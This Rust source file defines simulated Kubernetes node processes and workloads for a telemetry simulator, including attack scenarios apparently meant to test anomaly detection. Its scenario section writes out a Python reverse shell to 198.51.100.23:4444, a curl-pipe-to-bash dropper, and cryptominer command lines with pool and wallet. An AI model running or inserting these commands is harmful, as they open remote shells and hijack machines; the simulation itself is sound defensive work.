//! What runs on the simulated nodes: host daemons, cron jobs, cluster add-ons and a pool of
//! application workloads, with the attributes the process scraper reports for each, the image
//! of each workload's container, and who talks to whom ([`TALKS`]).
//!
//! Names follow gopsutil: `process.executable.name` is the kernel `comm` (the name the binary
//! was *executed as*, so `python` for `/usr/local/bin/python3.11` run through its symlink, and
//! `gunicorn` for a script), extended from argv[0] when the kernel truncated it at 15 bytes
//! (`containerd-shim-runc-v2`), and left truncated when argv[0] was rewritten (puma's
//! `puma 6.4.2 (tcp`). `process.executable.path` is the target of `/proc/<pid>/exe`, so the
//! merged-/usr path (`/usr/lib/systemd/systemd-journald`, `/usr/sbin/agetty`) and, for
//! containers, the path inside the container image. `process.owner` is `None` where the
//! container's uid has no user on the host (the scraper then omits the key).

/// Average resource use of a process, varied per incarnation.
#[derive(Debug, Clone, Copy, PartialEq)]
pub(crate) struct Profile {
    /// CPU in cores.
    pub cpu: f64,
    /// Shares of the CPU time spent in system and iowait (the rest is user).
    pub sys: f64,
    pub wait: f64,
    pub rss_mb: f64,
    pub vms_mb: f64,
    /// Disk traffic in KiB/s.
    pub read_kib: f64,
    pub write_kib: f64,
}

const fn prof(cpu: f64, sys: f64, wait: f64, rss_mb: f64, vms_mb: f64, read_kib: f64, write_kib: f64) -> Profile {
    Profile {
        cpu,
        sys,
        wait,
        rss_mb,
        vms_mb,
        read_kib,
        write_kib,
    }
}

/// One executable as the scraper sees it.
#[derive(Debug, Clone, Copy, PartialEq)]
pub(crate) struct Exe {
    pub path: &'static str,
    pub name: &'static str,
    /// argv[0] (`process.command`).
    pub command: &'static str,
    /// The rest of argv joined with spaces (quoting is lost, as on Linux); `{node}`, `{ip}`
    /// and `{sandbox}` are substituted.
    pub args: &'static str,
    pub owner: Option<&'static str>,
    pub profile: Profile,
}

const fn exe(
    path: &'static str,
    name: &'static str,
    command: &'static str,
    args: &'static str,
    owner: Option<&'static str>,
    profile: Profile,
) -> Exe {
    Exe {
        path,
        name,
        command,
        args,
        owner,
        profile,
    }
}

const ROOT: Option<&str> = Some("root");

pub(crate) const SYSTEMD: Exe = exe(
    "/usr/lib/systemd/systemd",
    "systemd",
    "/sbin/init",
    "",
    ROOT,
    prof(0.003, 0.55, 0.0, 11.0, 167.0, 0.2, 1.5),
);

/// Host daemons, started in this order at boot (after systemd, pid 1). All run all the time.
pub(crate) const DAEMONS: [Exe; 13] = [
    exe("/usr/lib/systemd/systemd-journald", "systemd-journald", "/lib/systemd/systemd-journald", "", ROOT, prof(0.004, 0.45, 0.01, 48.0, 120.0, 0.3, 45.0)),
    exe("/usr/lib/systemd/systemd-udevd", "systemd-udevd", "/lib/systemd/systemd-udevd", "", ROOT, prof(0.0004, 0.5, 0.0, 7.0, 25.0, 0.0, 0.0)),
    exe("/usr/lib/systemd/systemd-networkd", "systemd-networkd", "/lib/systemd/systemd-networkd", "", Some("systemd-network"), prof(0.0006, 0.5, 0.0, 8.0, 17.0, 0.0, 0.0)),
    exe("/usr/lib/systemd/systemd-resolved", "systemd-resolved", "/lib/systemd/systemd-resolved", "", Some("systemd-resolve"), prof(0.002, 0.4, 0.0, 13.0, 25.0, 0.0, 0.1)),
    exe("/usr/lib/systemd/systemd-logind", "systemd-logind", "/lib/systemd/systemd-logind", "", ROOT, prof(0.0002, 0.5, 0.0, 7.5, 17.0, 0.0, 0.0)),
    exe("/usr/bin/dbus-daemon", "dbus-daemon", "@dbus-daemon", "--system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only", Some("messagebus"), prof(0.0005, 0.5, 0.0, 5.0, 9.0, 0.0, 0.0)),
    exe("/usr/sbin/rsyslogd", "rsyslogd", "/usr/sbin/rsyslogd", "-n -iNONE", Some("syslog"), prof(0.001, 0.4, 0.01, 6.0, 222.0, 0.0, 12.0)),
    exe("/usr/sbin/cron", "cron", "/usr/sbin/cron", "-f -P", ROOT, prof(0.0001, 0.5, 0.0, 2.8, 7.0, 0.0, 0.0)),
    exe("/usr/sbin/chronyd", "chronyd", "/usr/sbin/chronyd", "-F 1", Some("_chrony"), prof(0.0002, 0.6, 0.0, 3.2, 18.0, 0.0, 0.0)),
    exe("/usr/sbin/sshd", "sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "", ROOT, prof(0.0001, 0.5, 0.0, 7.5, 15.0, 0.0, 0.0)),
    exe("/usr/sbin/agetty", "agetty", "/sbin/agetty", "-o -p -- \\u --keep-baud 115200,57600,38400,9600 ttyS0 vt220", ROOT, prof(0.0, 0.5, 0.0, 2.0, 6.0, 0.0, 0.0)),
    exe("/usr/bin/containerd", "containerd", "/usr/bin/containerd", "", ROOT, prof(0.035, 0.35, 0.004, 70.0, 2600.0, 1.0, 60.0)),
    exe(
        "/usr/bin/kubelet",
        "kubelet",
        "/usr/bin/kubelet",
        "--bootstrap-kubeconfig=/etc/kubernetes/bootstrap-kubelet.conf --kubeconfig=/etc/kubernetes/kubelet.conf --config=/var/lib/kubelet/config.yaml --container-runtime-endpoint=unix:///run/containerd/containerd.sock --node-ip={ip} --hostname-override={node}",
        ROOT,
        prof(0.06, 0.3, 0.002, 110.0, 2100.0, 1.0, 25.0),
    ),
];
/// Index of cron in [`DAEMONS`] (the parent of cron jobs).
pub(crate) const CRON: usize = 7;
/// Index of containerd in [`DAEMONS`] (the fallback for the restart scenario).
pub(crate) const CONTAINERD: usize = 11;

/// When a scheduled job runs.
#[derive(Debug, Clone, Copy, PartialEq)]
pub(crate) enum Schedule {
    /// Every day at this second of the (UTC) day, plus a per-node offset below `jitter_s`.
    Daily { at_s: u64, jitter_s: u64, dur_s: u64 },
    /// Every hour at this second of the hour.
    Hourly { at_s: u64, dur_s: u64 },
}

/// Short-lived jobs that run at fixed times, so they are part of every node's baseline.
/// `by_cron`: parent is cron (else systemd, for timers).
pub(crate) const JOBS: [(Exe, Schedule, bool); 3] = [
    (
        exe(
            "/usr/sbin/logrotate",
            "logrotate",
            "/usr/sbin/logrotate",
            "/etc/logrotate.conf",
            ROOT,
            prof(0.25, 0.5, 0.1, 4.0, 9.0, 300.0, 600.0),
        ),
        Schedule::Daily {
            at_s: 0,
            jitter_s: 3600,
            dur_s: 100,
        },
        false,
    ),
    (
        exe(
            "/usr/bin/run-parts",
            "run-parts",
            "run-parts",
            "--report /etc/cron.daily",
            ROOT,
            prof(0.05, 0.5, 0.05, 3.0, 8.0, 50.0, 20.0),
        ),
        Schedule::Daily {
            at_s: 6 * 3600 + 25 * 60,
            jitter_s: 0,
            dur_s: 150,
        },
        true,
    ),
    (
        exe(
            "/usr/bin/find",
            "find",
            "/usr/bin/find",
            "/var/log/pods -name *.gz -mtime +7 -delete",
            ROOT,
            prof(0.2, 0.7, 0.2, 3.0, 8.0, 900.0, 2.0),
        ),
        Schedule::Hourly {
            at_s: 17 * 60,
            dur_s: 40,
        },
        true,
    ),
];

/// The per-pod runtime shim (its parent is systemd: shims daemonize).
pub(crate) const SHIM: Exe = exe(
    "/usr/bin/containerd-shim-runc-v2",
    "containerd-shim-runc-v2",
    "/usr/bin/containerd-shim-runc-v2",
    "-namespace k8s.io -id {sandbox} -address /run/containerd/containerd.sock",
    ROOT,
    prof(0.002, 0.5, 0.0, 9.0, 1240.0, 0.0, 0.0),
);

/// A process of a pod: its executable, its parent (`None`: the shim; `Some(i)`: process `i`
/// of the same pod) and how often its container restarts (mean days, 0: never).
#[derive(Debug, Clone, Copy)]
pub(crate) struct PodProc {
    pub exe: Exe,
    pub parent: Option<usize>,
    pub restart_days: f64,
}

#[derive(Debug, Clone, Copy)]
pub(crate) struct Workload {
    pub name: &'static str,
    pub namespace: &'static str,
    pub daemonset: bool,
    /// The pod's one container: its name, image (repository, as `container.image.name`) and
    /// tag ([`BUILD_TAG`]: the in-house CI tags each rollout's build by date and commit).
    pub container: &'static str,
    pub image: &'static str,
    pub tag: &'static str,
    pub procs: &'static [PodProc],
    /// Relative popularity in the application pool.
    pub weight: f64,
    /// Mean days between rollouts (new pod name, new pids), 0: never.
    pub rollout_days: f64,
}

const fn main(exe: Exe, restart_days: f64) -> PodProc {
    PodProc {
        exe,
        parent: None,
        restart_days,
    }
}
const fn child(exe: Exe, parent: usize) -> PodProc {
    PodProc {
        exe,
        parent: Some(parent),
        restart_days: 0.0,
    }
}

/// `Workload::tag` of in-house images: each rollout's build is tagged `YYYY.MM.DD-<commit>`.
pub(crate) const BUILD_TAG: &str = "";

/// Cluster add-ons on every node (on top of the application processes).
pub(crate) static ADDONS: [Workload; 4] = [
    Workload {
        name: "kube-proxy",
        namespace: "kube-system",
        daemonset: true,
        container: "kube-proxy",
        image: "registry.k8s.io/kube-proxy",
        tag: "v1.30.6",
        procs: &[main(
            exe(
                "/usr/local/bin/kube-proxy",
                "kube-proxy",
                "/usr/local/bin/kube-proxy",
                "--config=/var/lib/kube-proxy/config.conf --hostname-override={node}",
                ROOT,
                prof(0.008, 0.45, 0.0, 45.0, 1300.0, 0.0, 0.0),
            ),
            0.0,
        )],
        weight: 0.0,
        rollout_days: 40.0,
    },
    Workload {
        name: "cilium",
        namespace: "kube-system",
        daemonset: true,
        container: "cilium-agent",
        image: "quay.io/cilium/cilium",
        tag: "v1.16.4",
        procs: &[main(
            exe(
                "/usr/bin/cilium-agent",
                "cilium-agent",
                "cilium-agent",
                "--config-dir=/tmp/cilium/config-map",
                ROOT,
                prof(0.05, 0.4, 0.0, 260.0, 2500.0, 0.0, 6.0),
            ),
            60.0,
        )],
        weight: 0.0,
        rollout_days: 30.0,
    },
    Workload {
        name: "otel-agent",
        namespace: "observability",
        daemonset: true,
        container: "otel-collector",
        image: "otel/opentelemetry-collector-contrib",
        tag: "0.116.0",
        procs: &[main(
            exe(
                "/otelcol-contrib",
                "otelcol-contrib",
                "/otelcol-contrib",
                "--config=/conf/relay.yaml",
                ROOT,
                prof(0.03, 0.3, 0.0, 180.0, 1900.0, 0.0, 1.0),
            ),
            45.0,
        )],
        weight: 0.0,
        rollout_days: 21.0,
    },
    Workload {
        name: "kernel-collector",
        namespace: "network-explorer",
        daemonset: true,
        container: "kernel-collector",
        image: "otel/opentelemetry-ebpf-kernel-collector",
        tag: "v0.10.2",
        procs: &[main(
            exe(
                "/srv/kernel-collector",
                "kernel-collector",
                "/srv/kernel-collector",
                "--config-file=/etc/network-explorer/config.yaml --disable-nomad-metadata --warning",
                ROOT,
                prof(0.02, 0.6, 0.0, 95.0, 800.0, 0.0, 0.0),
            ),
            40.0,
        )],
        weight: 0.0,
        rollout_days: 28.0,
    },
];

/// Cluster DNS: a two-replica Deployment, so it runs on a subset of nodes.
pub(crate) static COREDNS: Workload = Workload {
    name: "coredns",
    namespace: "kube-system",
    daemonset: false,
    container: "coredns",
    image: "registry.k8s.io/coredns/coredns",
    tag: "v1.11.3",
    procs: &[main(
        exe(
            "/coredns",
            "coredns",
            "/coredns",
            "-conf /etc/coredns/Corefile",
            None,
            prof(0.004, 0.4, 0.0, 28.0, 1280.0, 0.0, 0.0),
        ),
        90.0,
    )],
    weight: 0.0,
    rollout_days: 45.0,
};

/// A monitoring DaemonSet: the `common_in_cluster_new_on_node` scenario holds it back from one
/// node until the last hour (its path is reserved to that use).
pub(crate) static NODE_EXPORTER: Workload = Workload {
    name: "node-exporter",
    namespace: "monitoring",
    daemonset: true,
    container: "node-exporter",
    image: "quay.io/prometheus/node-exporter",
    tag: "v1.8.2",
    procs: &[main(
        exe(
            "/bin/node_exporter",
            "node_exporter",
            "/bin/node_exporter",
            "--path.rootfs=/host --web.listen-address=0.0.0.0:9100",
            Some("nobody"),
            prof(0.006, 0.5, 0.0, 22.0, 730.0, 0.0, 0.0),
        ),
        0.0,
    )],
    weight: 0.0,
    rollout_days: 60.0,
};

/// Cluster-wide collectors, one replica each, on node 0 of every cluster: the OTel gateway
/// (where agents, the cluster receiver and the reducer send), the `k8s_cluster` receiver (a
/// Deployment: its metrics describe the whole cluster) and the Network Explorer reducer.
pub(crate) static SINGLETONS: [Workload; 3] = [
    Workload {
        name: "otel-gateway",
        namespace: "observability",
        daemonset: false,
        container: "otel-collector",
        image: "otel/opentelemetry-collector-contrib",
        tag: "0.116.0",
        procs: &[main(
            exe("/otelcol-contrib", "otelcol-contrib", "/otelcol-contrib", "--config=/conf/gateway.yaml", ROOT, prof(0.12, 0.3, 0.0, 420.0, 2400.0, 0.0, 2.0)),
            45.0,
        )],
        weight: 0.0,
        rollout_days: 21.0,
    },
    Workload {
        name: "otel-cluster-receiver",
        namespace: "observability",
        daemonset: false,
        container: "otel-collector",
        image: "otel/opentelemetry-collector-contrib",
        tag: "0.116.0",
        procs: &[main(
            exe("/otelcol-contrib", "otelcol-contrib", "/otelcol-contrib", "--config=/conf/cluster-receiver.yaml", ROOT, prof(0.02, 0.3, 0.0, 150.0, 1900.0, 0.0, 0.5)),
            45.0,
        )],
        weight: 0.0,
        rollout_days: 21.0,
    },
    Workload {
        name: "network-explorer-reducer",
        namespace: "network-explorer",
        daemonset: false,
        container: "reducer",
        image: "otel/opentelemetry-ebpf-reducer",
        tag: "v0.10.2",
        procs: &[main(
            exe(
                "/srv/opentelemetry-ebpf-reducer",
                "opentelemetry-ebpf-reducer",
                "/srv/opentelemetry-ebpf-reducer",
                "--port 8000 --prom 0.0.0.0:7010 --disable-prometheus-metrics --enable-otlp-grpc-metrics --otlp-grpc-metrics-host=otel-gateway.observability --otlp-grpc-metrics-port=4317",
                ROOT,
                prof(0.15, 0.25, 0.0, 600.0, 3100.0, 0.0, 0.0),
            ),
            30.0,
        )],
        weight: 0.0,
        rollout_days: 28.0,
    },
];

/// The application DaemonSet every node runs (counted in `processes`).
pub(crate) static LOG_SHIPPER: Workload = Workload {
    name: "fluent-bit",
    namespace: "logging",
    daemonset: true,
    container: "fluent-bit",
    image: "cr.fluentbit.io/fluent/fluent-bit",
    tag: "3.2.2",
    procs: &[main(
        exe(
            "/fluent-bit/bin/fluent-bit",
            "fluent-bit",
            "/fluent-bit/bin/fluent-bit",
            "-c /fluent-bit/etc/fluent-bit.conf",
            ROOT,
            prof(0.015, 0.4, 0.01, 35.0, 420.0, 120.0, 4.0),
        ),
        30.0,
    )],
    weight: 0.0,
    rollout_days: 25.0,
};

const PY: &str = "/usr/local/bin/python3.11";
const TEMURIN: &str = "/opt/java/openjdk/bin/java";

/// The application pool: Deployments drawn (with replacement) to fill each node.
pub(crate) static APPS: [Workload; 20] = [
    Workload {
        name: "web-frontend",
        namespace: "web",
        daemonset: false,
        container: "nginx",
        image: "docker.io/library/nginx",
        tag: "1.27.3",
        procs: &[
            main(exe("/usr/sbin/nginx", "nginx", "nginx: master process nginx -g daemon off;", "", ROOT, prof(0.0005, 0.5, 0.0, 9.0, 60.0, 0.0, 0.0)), 0.0),
            child(exe("/usr/sbin/nginx", "nginx", "nginx: worker process", "", None, prof(0.02, 0.45, 0.0, 14.0, 62.0, 4.0, 30.0)), 0),
        ],
        weight: 3.0,
        rollout_days: 5.0,
    },
    Workload {
        name: "api-gateway",
        namespace: "edge",
        daemonset: false,
        container: "envoy",
        image: "docker.io/envoyproxy/envoy",
        tag: "v1.32.2",
        procs: &[main(exe("/usr/local/bin/envoy", "envoy", "envoy", "-c /etc/envoy/envoy.yaml --service-cluster api-gateway --log-level warn", None, prof(0.08, 0.35, 0.0, 90.0, 2300.0, 0.0, 2.0)), 20.0)],
        weight: 3.0,
        rollout_days: 9.0,
    },
    Workload {
        name: "checkout",
        namespace: "shop",
        daemonset: false,
        container: "checkout",
        image: "registry.example.com/shop/checkout",
        tag: BUILD_TAG,
        procs: &[main(exe("/usr/local/bin/node", "node", "node", "dist/main.js", None, prof(0.06, 0.2, 0.0, 160.0, 11000.0, 1.0, 3.0)), 6.0)],
        weight: 3.0,
        rollout_days: 3.0,
    },
    Workload {
        name: "auth",
        namespace: "identity",
        daemonset: false,
        container: "auth",
        image: "registry.example.com/identity/auth",
        tag: BUILD_TAG,
        procs: &[main(exe("/usr/local/bin/node", "node", "node", "--max-old-space-size=512 server.js", None, prof(0.03, 0.2, 0.0, 120.0, 10800.0, 0.5, 1.0)), 10.0)],
        weight: 2.0,
        rollout_days: 7.0,
    },
    Workload {
        name: "recommendations",
        namespace: "shop",
        daemonset: false,
        container: "recommendations",
        image: "registry.example.com/shop/recommendations",
        tag: BUILD_TAG,
        procs: &[main(exe(PY, "gunicorn", "/usr/local/bin/python", "/usr/local/bin/gunicorn --workers 2 --bind 0.0.0.0:8000 recommendations.wsgi:application", ROOT, prof(0.09, 0.15, 0.0, 210.0, 520.0, 2.0, 1.0)), 8.0)],
        weight: 2.5,
        rollout_days: 4.0,
    },
    Workload {
        name: "task-worker",
        namespace: "shop",
        daemonset: false,
        container: "worker",
        image: "registry.example.com/shop/task-worker",
        tag: BUILD_TAG,
        procs: &[main(exe(PY, "celery", "/usr/local/bin/python", "/usr/local/bin/celery -A tasks worker --loglevel=INFO --concurrency=2", None, prof(0.12, 0.2, 0.01, 180.0, 450.0, 10.0, 25.0)), 3.0)],
        weight: 2.0,
        rollout_days: 4.0,
    },
    Workload {
        name: "notifications",
        namespace: "messaging",
        daemonset: false,
        container: "notifications",
        image: "registry.example.com/messaging/notifications",
        tag: BUILD_TAG,
        procs: &[main(exe("/usr/bin/python3.11", "python3", "python3", "-m notifications.main", ROOT, prof(0.01, 0.2, 0.0, 65.0, 310.0, 0.0, 0.5)), 12.0)],
        weight: 1.5,
        rollout_days: 10.0,
    },
    Workload {
        name: "batch-runner",
        namespace: "data",
        daemonset: false,
        container: "runner",
        image: "docker.io/library/python",
        tag: "3.11-slim-bookworm",
        procs: &[
            main(exe("/usr/bin/tini", "tini", "/usr/bin/tini", "-- python runner.py", ROOT, prof(0.0, 0.5, 0.0, 0.8, 2.5, 0.0, 0.0)), 0.0),
            PodProc { exe: exe(PY, "python", "python", "runner.py", ROOT, prof(0.2, 0.1, 0.02, 300.0, 900.0, 80.0, 40.0)), parent: Some(0), restart_days: 2.0 },
        ],
        weight: 1.0,
        rollout_days: 6.0,
    },
    Workload {
        name: "orders",
        namespace: "shop",
        daemonset: false,
        container: "orders",
        image: "registry.example.com/shop/orders",
        tag: BUILD_TAG,
        procs: &[main(exe(TEMURIN, "java", "java", "-XX:MaxRAMPercentage=75.0 -jar /app/orders.jar", None, prof(0.15, 0.1, 0.0, 700.0, 4800.0, 3.0, 6.0)), 9.0)],
        weight: 2.5,
        rollout_days: 5.0,
    },
    Workload {
        name: "billing",
        namespace: "payments",
        daemonset: false,
        container: "billing",
        image: "registry.example.com/payments/billing",
        tag: BUILD_TAG,
        procs: &[main(exe("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java", "java", "-Xmx512m -cp /app/lib/* com.example.billing.Main", None, prof(0.07, 0.1, 0.0, 620.0, 4300.0, 1.0, 2.0)), 14.0)],
        weight: 1.5,
        rollout_days: 8.0,
    },
    Workload {
        name: "search",
        namespace: "data",
        daemonset: false,
        container: "search",
        image: "docker.io/library/eclipse-temurin",
        tag: "21-jre-jammy",
        procs: &[main(exe(TEMURIN, "java", "java", "-Xms1g -Xmx1g -jar /usr/share/search/search.jar", None, prof(0.25, 0.12, 0.01, 1300.0, 6200.0, 150.0, 90.0)), 15.0)],
        weight: 1.0,
        rollout_days: 12.0,
    },
    Workload {
        name: "catalog",
        namespace: "shop",
        daemonset: false,
        container: "catalog",
        image: "registry.example.com/shop/catalog",
        tag: BUILD_TAG,
        procs: &[main(exe("/app/server", "server", "/app/server", "--port=8080 --metrics-port=9090", None, prof(0.03, 0.3, 0.0, 40.0, 1250.0, 0.0, 0.0)), 15.0)],
        weight: 3.0,
        rollout_days: 3.0,
    },
    Workload {
        name: "inventory",
        namespace: "shop",
        daemonset: false,
        container: "inventory",
        image: "registry.example.com/shop/inventory",
        tag: BUILD_TAG,
        procs: &[main(exe("/app/server", "server", "/app/server", "--config=/etc/inventory/config.yaml", None, prof(0.02, 0.3, 0.0, 35.0, 1240.0, 0.0, 0.0)), 15.0)],
        weight: 2.0,
        rollout_days: 4.0,
    },
    Workload {
        name: "cache",
        namespace: "data",
        daemonset: false,
        container: "redis",
        image: "docker.io/library/redis",
        tag: "7.4.1",
        procs: &[main(exe("/usr/local/bin/redis-server", "redis-server", "redis-server *:6379", "", None, prof(0.02, 0.45, 0.0, 150.0, 190.0, 0.0, 40.0)), 30.0)],
        weight: 1.5,
        rollout_days: 20.0,
    },
    Workload {
        name: "db",
        namespace: "data",
        daemonset: false,
        container: "postgres",
        image: "docker.io/library/postgres",
        tag: "16.6",
        procs: &[
            main(exe("/usr/lib/postgresql/16/bin/postgres", "postgres", "postgres", "-D /var/lib/postgresql/data", None, prof(0.01, 0.3, 0.02, 60.0, 220.0, 20.0, 10.0)), 0.0),
            child(exe("/usr/lib/postgresql/16/bin/postgres", "postgres", "postgres: checkpointer ", "", None, prof(0.002, 0.4, 0.05, 30.0, 220.0, 0.0, 120.0)), 0),
        ],
        weight: 1.0,
        rollout_days: 30.0,
    },
    Workload {
        name: "queue",
        namespace: "messaging",
        daemonset: false,
        container: "rabbitmq",
        image: "docker.io/library/rabbitmq",
        tag: "3.13.7-management",
        procs: &[main(
            exe(
                "/usr/local/lib/erlang/erts-14.2.5/bin/beam.smp",
                "beam.smp",
                "/usr/local/lib/erlang/erts-14.2.5/bin/beam.smp",
                "-W w -MBas ageffcbf -MHas ageffcbf -MBlmbcs 512 -MHlmbcs 512 -MMmcs 30 -P 1048576 -t 5000000 -stbt db -zdbbl 128000 -sbwt none -- -root /usr/local/lib/erlang -progname erl -- -home /var/lib/rabbitmq -- -noshell -noinput -s rabbit boot",
                None,
                prof(0.05, 0.3, 0.0, 140.0, 2600.0, 2.0, 15.0),
            ),
            25.0,
        )],
        weight: 1.0,
        rollout_days: 20.0,
    },
    Workload {
        name: "storefront",
        namespace: "web",
        daemonset: false,
        container: "storefront",
        image: "registry.example.com/web/storefront",
        tag: BUILD_TAG,
        procs: &[main(exe("/usr/local/bin/ruby", "puma 6.4.2 (tcp", "puma 6.4.2 (tcp://0.0.0.0:3000) [app]", "", None, prof(0.04, 0.15, 0.0, 240.0, 1100.0, 0.5, 1.0)), 7.0)],
        weight: 1.0,
        rollout_days: 4.0,
    },
    Workload {
        name: "cms",
        namespace: "web",
        daemonset: false,
        container: "wordpress",
        image: "docker.io/library/wordpress",
        tag: "6.7.1-php8.3-fpm",
        procs: &[
            main(exe("/usr/local/sbin/php-fpm", "php-fpm", "php-fpm: master process (/usr/local/etc/php-fpm.conf)", "", ROOT, prof(0.001, 0.5, 0.0, 20.0, 210.0, 0.0, 0.0)), 0.0),
            child(exe("/usr/local/sbin/php-fpm", "php-fpm", "php-fpm: pool www", "", Some("www-data"), prof(0.02, 0.25, 0.0, 45.0, 215.0, 1.0, 0.5)), 0),
        ],
        weight: 1.0,
        rollout_days: 10.0,
    },
    Workload {
        name: "config-sync",
        namespace: "shop",
        daemonset: false,
        container: "config-sync",
        image: "docker.io/library/busybox",
        tag: "1.37.0",
        procs: &[main(exe("/bin/busybox", "sh", "sh", "-c while true; do wget -q -O /shared/config.json http://config-server/config; sleep 60; done", ROOT, prof(0.0003, 0.6, 0.0, 0.6, 4.3, 0.0, 0.1)), 0.0)],
        weight: 1.5,
        rollout_days: 15.0,
    },
    Workload {
        name: "reports",
        namespace: "data",
        daemonset: false,
        container: "reports",
        image: "registry.example.com/data/reports",
        tag: BUILD_TAG,
        procs: &[main(exe("/usr/share/dotnet/dotnet", "dotnet", "dotnet", "Reports.Api.dll", None, prof(0.05, 0.15, 0.0, 190.0, 27000.0, 2.0, 3.0)), 10.0)],
        weight: 1.0,
        rollout_days: 6.0,
    },
];

// ---------------------------------------------------------------------------------------------
// Scenario executables (reserved: nothing else runs them).

pub(crate) const XMRIG: Exe = exe(
    "/tmp/.x/xmrig",
    "xmrig",
    "/tmp/.x/xmrig",
    "-o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls -B --donate-level 1",
    ROOT,
    prof(3.6, 0.02, 0.0, 2400.0, 2650.0, 0.0, 0.0),
);
pub(crate) const DEV_SHM_SH: Exe = exe(
    "/dev/shm/sh",
    "sh",
    "/dev/shm/sh",
    "-i",
    ROOT,
    prof(0.001, 0.5, 0.0, 1.2, 4.5, 0.0, 0.0),
);
pub(crate) const TMP_PYTHON: Exe = exe(
    "/var/tmp/python3",
    "python3",
    "/var/tmp/python3",
    "-c import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")",
    Some("www-data"),
    prof(0.002, 0.4, 0.0, 9.5, 26.0, 0.0, 0.0),
);
pub(crate) const TCPDUMP: Exe = exe(
    "/usr/bin/tcpdump",
    "tcpdump",
    "tcpdump",
    "-i any -nn -w /tmp/dns.pcap port 53",
    Some("tcpdump"),
    prof(0.01, 0.6, 0.0, 12.0, 30.0, 0.0, 20.0),
);
pub(crate) const CRICTL: Exe = exe(
    "/usr/bin/crictl",
    "crictl",
    "crictl",
    "logs -f {sandbox}",
    ROOT,
    prof(0.003, 0.4, 0.0, 30.0, 1280.0, 0.0, 0.0),
);

/// `multi_stage_attack`, stage 1: the Kinsing campaign's miner, dropped in /tmp by an exploited
/// application and run from there (most of the node's CPU: the resource spike of stage 4).
pub(crate) const KDEVTMPFSI: Exe = exe(
    "/tmp/kdevtmpfsi",
    "kdevtmpfsi",
    "/tmp/kdevtmpfsi",
    "",
    ROOT,
    prof(3.2, 0.02, 0.0, 2300.0, 2500.0, 0.0, 0.0),
);
/// `multi_stage_attack`, stage 2: the shell the miner's dropper runs (the application image's
/// own `/bin/bash`, which nothing else on the node runs), working for a few minutes.
pub(crate) const DROPPER_BASH: Exe = exe(
    "/bin/bash",
    "bash",
    "bash",
    "-c curl -s http://198.51.100.7/ki.sh | bash",
    ROOT,
    prof(0.02, 0.45, 0.0, 3.8, 8.2, 4.0, 0.5),
);
/// `multi_stage_attack`, stage 3: the campaign's agent, a process name never seen before.
pub(crate) const KINSING: Exe = exe(
    "/var/tmp/.ssh/kinsing",
    "kinsing",
    "/var/tmp/.ssh/kinsing",
    "",
    ROOT,
    prof(0.01, 0.3, 0.0, 18.0, 720.0, 1.0, 0.0),
);

/// `kubectl exec -it <pod> -- bash`: an interactive shell that runs commands (CPU activity).
pub(crate) const EXEC_BASH: Exe = exe(
    "/usr/bin/bash",
    "bash",
    "bash",
    "",
    ROOT,
    prof(0.02, 0.45, 0.0, 3.8, 8.2, 4.0, 0.5),
);
/// `kubectl exec -it <pod> -- sh` left open: Debian's `/bin/sh` is dash (the kernel's `comm` is
/// the name it was executed as). Waiting on the terminal, it never uses CPU.
pub(crate) const EXEC_IDLE_SH: Exe = exe(
    "/usr/bin/dash",
    "sh",
    "sh",
    "",
    ROOT,
    prof(0.0, 0.5, 0.0, 0.9, 2.6, 0.0, 0.0),
);
/// A pod nobody deployed: a cryptominer image pulled from a public registry.
pub(crate) static EVIL_MINER: Workload = Workload {
    name: "kube-metrics-agent",
    namespace: "default",
    daemonset: false,
    container: "agent",
    image: "ghcr.io/evil/miner",
    tag: "latest",
    procs: &[main(
        exe(
            "/xmrig/xmrig",
            "xmrig",
            "/xmrig/xmrig",
            "--url=pool.hashvault.pro:443 --tls --coin=monero --cpu-max-threads-hint=90",
            ROOT,
            prof(2.2, 0.02, 0.0, 2300.0, 2600.0, 0.0, 0.0),
        ),
        0.0,
    )],
    weight: 0.0,
    rollout_days: 0.0,
};

/// Paths that only scenarios (or their dedicated workload) may run.
#[cfg(test)]
pub(crate) const RESERVED: [&str; 12] = [
    KDEVTMPFSI.path,
    DROPPER_BASH.path,
    KINSING.path,
    XMRIG.path,
    DEV_SHM_SH.path,
    TMP_PYTHON.path,
    TCPDUMP.path,
    CRICTL.path,
    EXEC_BASH.path,
    EXEC_IDLE_SH.path,
    "/xmrig/xmrig",
    "/bin/node_exporter",
];

/// Who talks TCP to whom (client workload → servers it may call); each cluster's topology
/// keeps 1 to 3 of the servers present in the cluster. Web tiers never call databases
/// directly (the `new_tcp_edge_lateral` scenario does).
pub(crate) const TALKS: [(&str, &[&str]); 21] = [
    ("web-frontend", &["api-gateway", "storefront", "cms"]),
    (
        "api-gateway",
        &["checkout", "auth", "catalog", "orders", "search", "recommendations"],
    ),
    ("checkout", &["orders", "auth", "cache", "queue", "inventory"]),
    ("auth", &["db", "cache"]),
    ("recommendations", &["catalog", "search", "cache"]),
    ("task-worker", &["queue", "db", "notifications"]),
    ("notifications", &["queue", "auth"]),
    ("batch-runner", &["db", "search"]),
    ("orders", &["db", "queue", "billing", "inventory"]),
    ("billing", &["db", "queue"]),
    ("search", &["cache"]),
    ("catalog", &["db", "cache"]),
    ("inventory", &["db"]),
    ("storefront", &["catalog", "checkout", "auth", "cache"]),
    ("cms", &["db", "cache"]),
    ("config-sync", &["api-gateway"]),
    ("reports", &["db", "search", "billing"]),
    // Telemetry: every client below talks to all of its servers.
    ("otel-agent", &["otel-gateway"]),
    ("otel-cluster-receiver", &["otel-gateway"]),
    ("kernel-collector", &["network-explorer-reducer"]),
    ("network-explorer-reducer", &["otel-gateway"]),
];
/// Clients of [`TALKS`] whose every server is called (the telemetry pipeline).
pub(crate) const TELEMETRY: [&str; 4] = [
    "otel-agent",
    "otel-cluster-receiver",
    "kernel-collector",
    "network-explorer-reducer",
];
/// Workloads that resolve names through cluster DNS (UDP to coredns): the applications and
/// these add-ons (kube-proxy and cilium use the host network; node-exporter resolves nothing).
pub(crate) const DNS_CLIENTS: [&str; 6] = [
    "fluent-bit",
    "otel-agent",
    "otel-gateway",
    "otel-cluster-receiver",
    "kernel-collector",
